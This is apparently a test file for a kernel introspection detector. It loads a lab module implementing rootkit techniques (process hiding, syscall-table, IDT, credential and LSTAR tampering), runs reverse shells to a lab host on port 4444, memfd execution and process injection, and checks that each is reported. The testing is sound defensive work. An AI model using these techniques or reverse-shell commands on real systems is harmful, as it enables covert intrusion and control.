#!/usr/bin/python3
"""Each technique of tests/guest/README.md is found, with its pid or symbol; what looks alike is not told."""

from __future__ import annotations

import json
import re
import sys
import unittest
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
import kmod  # noqa: E402  (the path must be set first)
from labkit import kernel  # noqa: E402
from labkit.paths import LabError  # noqa: E402
from labrun import LabCase, Run, fetched  # noqa: E402

SPLIT = "class"
COST = 200.0
TEST_TIMEOUT = 1500.0
SOON = 2.0  # seconds of the guest's clock within which a hidden process is told
PORT = 4444
SERVED = 5555  # by the processes that are hidden: see GUEST

Event = dict[str, Any]


@dataclass
class Trick:
    """A technique of tests/guest/kmod and what must be told of it."""

    name: str
    args: str  # of the module
    hidden: str = ""  # the view that misses the process; "": it is not hidden
    listed: bool = True  # does `ls /proc` in the guest show it meanwhile?
    user: bool = False  # the process is one of `nobody`
    # Each must be told: what, and words that stand in the event. {pid}, {0}...: see `at`.
    integrity: list[tuple[str, str]] = field(default_factory=list)
    at: str = ""  # what the module says; its groups are {0}, {1}...
    also: tuple[str, ...] = ()  # other things that may be told
    seconds: float = 3.0


# The process is missing from what a listing tells.
LISTINGS = [
    Trick("hide-tasklist", "do=hide variant=tasklist", hidden="tasklist"),
    Trick("hide-pidtable", "do=hide variant=pidtable", hidden="pidtable", listed=False),
    Trick("ftrace-getdents", "do=ftrace", hidden="proc", listed=False,
          integrity=[("ftrace", r"__x64_sys_getdents64(\+0x4)? goes on")]),
    Trick("ftrace-filldir", "do=ftrace variant=filldir", hidden="proc", listed=False,
          integrity=[("ftrace", r"filldir64(\+0x4)? goes on")]),
    Trick("fops", "do=fops", hidden="proc", listed=False),
    Trick("dispatch-call", "do=dispatch variant=call", hidden="proc", listed=False,
          integrity=[("syscall_table|text", "x64_sys_call")]),
    Trick("inline", "do=inline", hidden="proc", listed=False, integrity=[("text", "filldir64")]),
    Trick("remap", "do=remap", hidden="proc", listed=False, at=r"remap: (\w+) to frame (\w+)",
          integrity=[("page_table", "{0}")], also=("text", "code")),
]
# Something of the kernel is not what it was.
CHANGES = [
    Trick("dispatch-table", "do=dispatch variant=table", integrity=[("syscall_table", r"sys_call_table\+0x6c8")]),
    Trick("idt", "do=idt", at=r"idt: vector 4 to (\w+)", integrity=[("idt", "{0}")]),
    Trick("cred-ids", "do=cred variant=ids", user=True, integrity=[("credentials", '"pid":{pid},')]),
    Trick("cred-pointer", "do=cred variant=pointer", user=True, integrity=[("credentials", '"pid":{pid},')]),
    Trick("code", "do=code", at=r"code: at (\w+)", integrity=[("code", "{0}")], seconds=5),
    Trick("conceal", "do=nothing conceal=1", integrity=[("module", '"module":"vtest"')], also=("code",),
          seconds=5),
    Trick("conceal-ftrace", "do=ftrace variant=filldir conceal=1", hidden="proc", listed=False,
          integrity=[("module", '"module":"vtest"'), ("ftrace", "filldir64")], also=("code",), seconds=5),
    Trick("conceal-kprobe", "do=kprobe conceal=1",
          integrity=[("module", '"module":"vtest"'), ("kprobe", "do_sys_openat2")], also=("code",), seconds=5),
    Trick("control-wp", "do=control variant=wp", integrity=[("control_register", "(?i)cr0")]),
    Trick("control-smep", "do=control variant=smep", integrity=[("control_register", "(?i)cr4")]),
    # The last: where page tables are isolated it needs a jump in the entry code.
    Trick("lstar", "do=lstar", at=r"lstar: (\w+) to (\w+)", integrity=[("lstar", "{1}")], also=("text",)),
]

# `look SECONDS`: lists /proc three times a second. The copy's path tells the beginning of each step in the
# event of its loading.
GUEST = r"""
look() {
	for i in $(seq $(($1 * 3))); do sleep 0.3; ls /proc > /dev/null; done
}
listed() {
	if ls /proc | grep -qx "$1"; then echo yes; else echo no; fi
}
begin() {
	cp /vtest.ko "/tmp/$1.ko"
	dmesg -c > /dev/null
}
end() {
	# rmmod does not find one that hides.
	echo 1 > /sys/module/vtest/parameters/undo
	rmmod vtest || exit 81
	rm -f /tmp/*.ko
}
step() {
	name=$1 seconds=$2 user=$3
	shift 3
	su -s /bin/sh "$user" -c 'exec nc -l -p 5555' &
	pid=$!
	sleep 1
	begin "$name"
	insmod "/tmp/$name.ko" "$@" pid=$pid || { dmesg; exit 80; }
	dmesg | grep -o 'vtest: .*' | sed "s/^/$name: /"
	look "$seconds"
	while_on=$(listed $pid)
	end
	look 2
	echo "step: $name pid $pid listed $while_on then $(listed $pid)"
	kill $pid
	sleep 1
}
sleep 3
look 1
"""


def when(event: Event) -> float:
    return datetime.strptime(event["timestamp"], "%Y-%m-%dT%H:%M:%S.%f%z").timestamp()


class Rootkits(LabCase):
    """What the runs share: a guest that does one step after the other."""

    KERNEL = ""  # what tools/deps calls it; "": the lab's default

    def guest(self, script: str, *args: str, **more: object) -> Run:
        if self.KERNEL:
            folder = fetched(self.KERNEL)
            if folder is None:
                self.skipTest(f"{self.KERNEL} cannot be fetched here")
            image = folder / "vmlinuz"
            args = (*args, "--kernel", str(image), "--modules", str(folder / "modules"))
        else:
            image = None
        try:
            module = kmod.build(image)
        except LabError as error:
            self.skipTest(f"no kernel module: {str(error).splitlines()[0]}")
        files = {"vtest.ko": module, **more.pop("files", {})}  # type: ignore[dict-item]
        return self.good(self.lab(GUEST + script, *args, files=files, timeout=900.0, **more))  # type: ignore[arg-type]

    def windows(self, run: Run) -> dict[str, list[Event]]:
        """The events of each step, from the loading of its copy of the module to the next one."""
        self.assertEqual([e["hypervisor"]["state"] for e in run.of("hypervisor", "introspection")], ["ready"])
        events = sorted(run.events, key=lambda e: (e["timestamp"], e["seq"]))
        windows: dict[str, list[Event]] = {"": []}
        name = ""
        for event in events:
            call = event.get("syscall", {})
            path = re.search(r"path=/tmp/([\w-]+)\.ko", " ".join(call.get("args", [])))
            if call.get("name") == "module-load" and path:
                name = path.group(1)
            windows.setdefault(name, []).append(event)
        return windows

    def check(self, trick: Trick, run: Run, events: list[Event]) -> None:
        done = re.search(rf"step: {trick.name} pid (\d+) listed (\w+) then (\w+)", run.console)
        assert done, "the guest did not come to it"
        pid = int(done.group(1))
        # The fixture works, and is undone.
        self.assertEqual((done.group(2), done.group(3)), ("yes" if trick.listed else "no", "yes"))
        told = [e for e in events if e["event_type"] in ("integrity", "alert") or self.is_hidden(e)]
        note = "; ".join(json.dumps(e.get("integrity") or e["process"]) for e in told)
        self.check_hidden(trick, pid, events)
        said = re.search(f"{trick.name}: vtest: {trick.at}", run.console) if trick.at else None
        words = [w.lower() for w in said.groups()] if said else []
        allowed = set(trick.also)
        for what, text in trick.integrity:
            pattern = text.replace("{pid}", str(pid))
            for number, word in enumerate(words):
                pattern = pattern.replace(f"{{{number}}}", word)
            kinds = what.split("|")
            allowed.update(kinds)
            found = [e for e in told if e["event_type"] == "integrity" and e["integrity"]["what"] in kinds
                     and re.search(pattern, json.dumps(e, separators=(",", ":")))]
            self.assertTrue(found, f"{what} with {pattern} is not told; told: {note or 'nothing'}")
            self.note(f"{trick.name}: {found[0]['integrity']} after {when(found[0]) - when(events[0]):.2f} s")
        odd = [e for e in told if e["event_type"] == "integrity" and e["integrity"]["what"] not in allowed]
        self.assertEqual(odd, [], "told, but not done")
        self.assertEqual([e for e in told if e["event_type"] == "alert"], [])

    @staticmethod
    def is_hidden(event: Event) -> bool:
        return event["event_type"] == "process" and event["process"]["action"] in ("hidden", "unhidden")

    def loaded(self, events: list[Event]) -> float:
        """When insmod was done: switching on ftrace alone takes a second in the emulator."""
        pid = events[0]["process"]["pid"]
        return next(when(e) for e in events if e["event_type"] == "process" and e["process"]["action"] == "exit"
                    and e["process"]["pid"] == pid)

    def check_hidden(self, trick: Trick, pid: int, events: list[Event]) -> None:
        told = [e for e in events if self.is_hidden(e)]
        hidden = [e for e in told if e["process"]["action"] == "hidden"]
        self.assertEqual({e["process"]["pid"] for e in told}, {pid} if trick.hidden else set())
        if not trick.hidden:
            return
        body = hidden[0]["process"]
        self.assertEqual(body["comm"], "nc")
        listening = {"proto": "TCP", "state": "listening", "src_port": SERVED}
        self.assertEqual([{k: v for k, v in flow.items() if k != "src_ip"} for flow in body["flows"]], [listening])
        self.assertIs(body["views"][trick.hidden], False, body)
        self.assertIs(body["views"]["ran"], True, body)
        self.assertEqual(told[-1]["process"]["action"], "unhidden", "shown again, but not told so")
        took = when(hidden[0]) - self.loaded(events)
        self.note(f"{trick.name}: {body['views']} after {took:.2f} s")
        self.assertLess(took, SOON)

    def run_table(self, tricks: list[Trick]) -> None:
        script = "".join(
            f"step {t.name} {t.seconds:g} {'nobody' if t.user else 'root'} {t.args}\n" for t in tricks)
        run = self.guest(script)
        windows = self.windows(run)
        for trick in tricks:
            with self.subTest(trick.name):
                self.assertIn(trick.name, windows, "its loading was not told")
                self.check(trick, run, windows[trick.name])
        with self.subTest("before all of them"):
            self.assertEqual([e for e in windows[""] if e["event_type"] == "integrity" or self.is_hidden(e)], [])


class Listings(Rootkits):
    """Processes left out of listings, each way, by modules and by BPF."""

    def test_modules(self) -> None:
        self.run_table(LISTINGS)

    BPF = r"""
need mount -t tracefs tracefs /sys/kernel/tracing
sleep 1000 &
pid=$!
sleep 1
bpfdir hide $pid &
program=$!
sleep 4
begin bpf
insmod /tmp/bpf.ko do=nothing
look 3
echo "step: bpf pid $pid listed $(listed $pid)"
kill $program
look 2
end
"""

    def test_bpf(self) -> None:
        run = self.guest(self.BPF)
        done = re.search(r"step: bpf pid (\d+) listed no", run.console)
        assert done, "the program hides nothing"
        self.assertTrue(re.search(r"bpfdir: pid \d+ attached", run.console))
        hidden = run.of("process", "hidden")
        self.assertEqual({e["process"]["pid"] for e in hidden}, {int(done.group(1))})
        self.assertIs(hidden[0]["process"]["views"]["proc"], False)
        found = [e["integrity"] for e in run.of("integrity")]
        self.assertEqual({f["what"] for f in found}, {"bpf"})
        self.assertIn("hider", json.dumps(found))


class Changes(Rootkits):
    """Tables, registers, credentials, code and lists of the kernel, changed one after the other."""

    def test_modules(self) -> None:
        self.run_table(CHANGES)


class Newer(Rootkits):
    """The same on another kernel, whose structures lie elsewhere."""

    KERNEL = "kernel-6.12"

    def test_listings(self) -> None:
        self.run_table(LISTINGS)

    def test_changes(self) -> None:
        self.run_table(CHANGES)


class LookAlikes(Rootkits):
    """What administrators do with the same means is not told."""

    KPROBES = r"""
begin ordinary; need insmod /tmp/ordinary.ko do=nothing; look 2; end
begin kprobe; need insmod /tmp/kprobe.ko do=kprobe; look 2; end
begin inside; need insmod /tmp/inside.ko do=kprobe variant=inside; look 3; end
need insmod /dummy.ko
look 1
need rmmod dummy
need mount -t tracefs tracefs /sys/kernel/tracing
cd /sys/kernel/tracing
echo 'p:vigil_open do_sys_openat2' > kprobe_events
echo 'r:vigil_exit vfs_read' >> kprobe_events
echo 1 > events/kprobes/enable
look 2
need grep -q vigil_open trace
echo 0 > events/kprobes/enable
echo > kprobe_events
cd /
look 1
"""
    OTHERS = r"""
bpfdir count &
program=$!
look 4
kill $program
need unshare -p -f -m --mount-proc sh -c '[ $$ = 1 ] && ls /proc | grep -cx "[0-9]*" && sleep 3 && ls /proc > /dev/null'
look 1
need su -s /bin/sh nobody -c 'sleep 1'
echo 1 > /proc/sys/kernel/sched_schedstats
look 1
echo 0 > /proc/sys/kernel/sched_schedstats
look 1
"""
    # Tracing of all functions, for as long as it takes to switch it on and off.
    TRACING = r"""
need mount -t tracefs tracefs /sys/kernel/tracing
cd /sys/kernel/tracing
echo 0 > tracing_on
echo "sites: $(wc -l < available_filter_functions)"
echo function > current_tracer
need grep -qx function current_tracer
echo "enabled: $(wc -l < enabled_functions)"
echo 1 > tracing_on
usleep 1000
echo 0 > tracing_on
look 1
need grep -m 1 -q -e '<-' trace
echo nop > current_tracer
cd /
look 1
"""

    def silent(self, run: Run, *told: str) -> None:
        self.windows(run)
        self.assertEqual([e for e in run.events if self.is_hidden(e)], [])
        self.assertEqual(run.of("integrity"), [])
        self.assertEqual(run.of("alert"), [])
        # What is told of every administrator.
        self.assertLessEqual({e["syscall"]["name"] for e in run.of("syscall")}, {"mount", "module-load", "bpf", *told})

    def test_modules_and_probes(self) -> None:
        dummy = dict(kernel.select(None, None, False).closure(("dummy",)))["dummy"]
        self.silent(self.guest(self.KPROBES, files={"dummy.ko": dummy}))

    def test_bpf_containers_and_keys(self) -> None:
        run = self.guest("need mount -t tracefs tracefs /sys/kernel/tracing\n" + self.OTHERS)
        calls = re.findall(r"bpfdir: (\d+) calls", run.console)
        self.assertTrue(calls and int(calls[-1]), "the program counts nothing")
        self.silent(run)

    def test_tracing_of_everything(self) -> None:
        run = self.guest(self.TRACING)
        sites, enabled = (int(re.findall(rf"{w}: (\d+)", run.console)[-1]) for w in ("sites", "enabled"))
        self.note(f"{enabled} of {sites} sites traced")
        self.assertGreater(enabled, 20000)
        self.silent(run)


HOST = f"""#!/usr/bin/env python3
import socket
server = socket.create_server(("", {PORT}))
server.settimeout(300)
print("listening", flush=True)
for n in range(2):
    peer, _ = server.accept()
    peer.sendall(b"echo sum $((40 + 2))\\nsleep 2\\nexit\\n")
    said = b""
    while piece := peer.recv(4096):
        said += piece
    print("shell", n, said, flush=True)
"""


class Programs(Rootkits):
    """A reverse shell, the same by io_uring, a program from memory, three ways into another process."""

    SCRIPT = rf"""
need ping -c 2 -W 8 $HOST_IP
echo LAB-READY
sleep 3
revshell $HOST_IP {PORT}
revshell $HOST_IP {PORT} io_uring
need memexec /bin/sleep 2
for way in ptrace mem vm; do need inject $way; done
sleep 2
"""

    def pids(self, run: Run, program: str) -> list[int]:
        return [int(n) for n in re.findall(rf"{program}: pid (\d+)", run.console)]

    def test_each(self) -> None:
        run = self.guest(self.SCRIPT, host=HOST, config=f"alert connect dport={PORT}\n")
        self.windows(run)
        self.assertEqual(run.said.count("sum 42"), 2, "the shells do not work")
        calls = [(e["syscall"], e["process"]) for e in run.of("syscall")]
        shells, memory, injectors = (self.pids(run, p) for p in ("revshell", "memexec", "inject"))
        self.assertEqual((len(shells), len(memory), len(injectors)), (2, 1, 3))
        with self.subTest("connections"):
            found = [(p["pid"], c["args"]) for c, p in calls if c["name"] == "connect"]
            # The ring tries at once, and again by a worker.
            self.assertEqual(list(dict.fromkeys(pid for pid, _ in found)), shells)
            for _, args in found:
                self.assertIn("addr=10.77.0.1", args)
                self.assertIn(f"dport={PORT}", args)
        with self.subTest("shells"):
            found = [(p["pid"], c["args"]) for c, p in calls if c["name"] == "socket-exec"]
            # What the shell runs inherits its connection: `sleep` is told as well.
            self.assertLessEqual(set(shells), {pid for pid, _ in found})
            self.assertIn("flags=socket", found[0][1])
        with self.subTest("memory"):
            found = [(p["pid"], c["args"]) for c, p in calls if c["name"] == "memfd-exec"]
            self.assertEqual([pid for pid, _ in found], memory)
            self.assertIn("path=/memfd:nothing", found[0][1])
        with self.subTest("injection"):
            pairs = re.findall(r"inject: pid (\d+) into (\d+) by \w+: done", run.console)
            found = {(p["pid"], *c["args"]) for c, p in calls if c["name"] == "ptrace"}
            for own, other in pairs:
                self.assertTrue(any(f[0] == int(own) and f"target_pid={other}" in f and "target=sleep" in f
                                    for f in found), (own, other, found))


if __name__ == "__main__":
    unittest.main()
